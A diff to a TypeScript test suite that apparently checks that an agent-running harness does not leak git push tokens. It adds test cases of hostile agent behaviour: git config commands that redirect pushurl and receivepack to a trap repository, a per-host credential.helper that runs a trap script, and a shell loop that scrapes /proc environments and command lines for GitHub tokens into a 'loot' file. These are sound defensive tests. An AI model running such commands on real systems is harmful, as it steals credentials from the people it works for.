@@ -41,12 +41,18 @@ const attacks: Readonly<Record<string, (at: { trap: string; thief: string; host:
   "url.pushInsteadOf": ({ thief, host }) => rewrite(host, `${thief}/`, "pushInsteadOf"),
   "remote.pushurl": ({ thief }) => `git config remote.origin.pushurl ${thief}/octo/app.git`,
   "another origin": ({ thief }) => `git remote set-url origin ${thief}/octo/app.git`,
+  "a pushurl on this machine, with a hook of its own": ({ trap }) =>
+    `git init -q --bare $TMPDIR/evil.git; cp ${trap} $TMPDIR/evil.git/hooks/pre-receive; git config remote.origin.pushurl $TMPDIR/evil.git`,
+  "remote.receivepack": ({ trap }) =>
+    `git init -q --bare $TMPDIR/evil.git; git config remote.origin.pushurl $TMPDIR/evil.git; git config remote.origin.receivepack ${trap}`,
   "http.proxy": ({ thief }) => `git config http.proxy ${thief}`,
   "core.sshCommand": ({ trap, host }) =>
     `git config core.sshCommand ${trap}; ${rewrite(host, "ssh://git@example.invalid/")}`,
   "the ext protocol": ({ trap, host }) =>
     `git config protocol.ext.allow always; ${rewrite(host, `ext::${trap} %S `)}`,
   "credential.helper": ({ trap }) => `git config credential.helper '!${trap}'`,
+  "credential.helper for the remote's own address": ({ trap, host }) =>
+    `git config credential.${host}.helper '!${trap}'`,
   "core.askPass": ({ trap }) => `git config core.askPass ${trap}`,
   "core.fsmonitor": ({ trap }) => `git config core.fsmonitor ${trap}`,
   "a filter for every file": ({ trap }) =>
@@ -63,6 +69,7 @@ const attacks: Readonly<Record<string, (at: { trap: string; thief: string; host:
 /** Of these even a push from the checkout itself would have given nothing away with the git of today. */
 const harmlessAnyway: ReadonlySet<string> = new Set([
   "credential.helper",
+  "credential.helper for the remote's own address",
   "core.askPass",
   "uploadpack.packObjectsHook",
   "submodules elsewhere",
@@ -85,8 +92,8 @@ async function pushFromTheCheckout(folder: string, jobFolder: string): Promise<v
 
 async function homeOfAgent(jobFolder: string): Promise<string> {
   const folder = join(jobFolder, "agent");
-  const homes = (await readdir(folder)).filter((name) => name.startsWith("home-"));
-  return join(folder, homes[0] ?? "");
+  const home = (await readdir(folder)).find((name) => name.startsWith("home-"));
+  return join(folder, home ?? "");
 }
 
 let shared: GitHost | undefined;
@@ -130,6 +137,38 @@ say ok`;
     expect(thief.seen.length > 0 || existsSync(loot)).toBe(true);
   });
 }
+
+test("where nothing was planted, both the harness's push and one from the checkout arrive", async ({
+  expect,
+}) => {
+  const studio = await openStudio({ agent: "commit work.txt; say ok", job: { pr: undefined } });
+  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
+  await pushFromTheCheckout(studio.folder, studio.recording.context.folder);
+  expect(await studio.host.inRepository("show", "naive:work.txt")).toBe("work.txt");
+});
+
+/** Looks at every process it can see, over and over, for what must stand in none of them. */
+const watchProcesses = (loot: string): string => `
+watch() { while :; do cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a "gh[s]_" >> ${loot}; done; }
+watch & watch &`;
+
+test("an agent that watches every process's environment and arguments sees no token in any push", async ({
+  expect,
+}) => {
+  const loot = join(await makeFolder(), "loot");
+  const studio = await openStudio({
+    limits: { checkpointMs: 50 },
+    agent: `${watchProcesses(loot)}
+for n in 1 2 3; do commit $n.txt; done
+wait_for_go
+kill %1 %2; say ok`,
+  });
+  const running = studio.run();
+  await studio.host.server.waitForPush(() => true);
+  await studio.letGo();
+  expect(await running).toMatchObject({ state: "done", result: { pushed: true } });
+  expect(await readFile(loot, "utf8")).toBe("");
+});
 
 test("planted while the agent still works: a checkpoint push gives nothing away either", async ({
   expect,
